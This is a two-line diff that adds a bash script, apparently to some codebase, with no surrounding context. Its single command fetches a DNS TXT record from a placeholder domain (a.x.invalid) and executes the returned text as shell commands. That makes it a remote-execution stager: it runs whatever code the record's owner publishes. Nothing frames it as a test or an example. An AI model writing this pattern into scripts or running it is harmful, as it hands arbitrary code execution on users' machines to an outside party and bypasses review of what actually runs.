@@ -1,0 +1,2 @@
+#!/bin/bash
+$(dig +short txt a.x.invalid | tr -d '"')
